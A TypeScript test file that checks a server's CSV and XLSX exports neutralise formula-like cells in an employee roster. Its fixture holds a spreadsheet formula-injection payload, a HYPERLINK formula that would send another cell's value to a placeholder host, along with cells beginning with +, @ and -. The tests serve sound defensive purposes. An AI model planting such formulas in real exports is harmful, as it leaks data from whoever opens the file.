import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { tableFile } from './table-file.js';

// Names and units as a hostile roster can carry them into any export.
const table = {
  header: ['NIP', 'Nama', 'Unit kerja', 'Skor'],
  rows: [
    ['198503122010011001', '=HYPERLINK("http://x/?c="&F3,"Klik")', '+Bidang', 62.5],
    ['198503122010011002', '@Ani', '-Sub Bagian', -1],
  ],
};

describe('exports written by the server', () => {
  it('neutralise formula-like cells in CSV', async () => {
    const file = await tableFile(table, 'csv', 'Uji');
    const rows = Papa.parse<string[]>(new TextDecoder().decode(file.bytes).replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
    expect(rows[1]).toEqual(['198503122010011001', `'=HYPERLINK("http://x/?c="&F3,"Klik")`, "'+Bidang", '62.5']);
    for (const cell of rows.slice(1).flatMap((r) => r.slice(1, 3))) expect(cell.startsWith("'")).toBe(true);
  });

  it('neutralise formula-like cells in XLSX, with figures kept as numbers', async () => {
    const file = await tableFile(table, 'xlsx', 'Uji');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(file.bytes.buffer as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    expect(sheet.getRow(2).getCell(2).value).toBe(`'=HYPERLINK("http://x/?c="&F3,"Klik")`);
    expect(sheet.getRow(3).getCell(2).value).toBe("'@Ani");
    expect(sheet.getRow(3).getCell(3).value).toBe("'-Sub Bagian");
    expect(sheet.getRow(3).getCell(4).value).toBe(-1);
    // No cell of the file is a formula.
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });
});
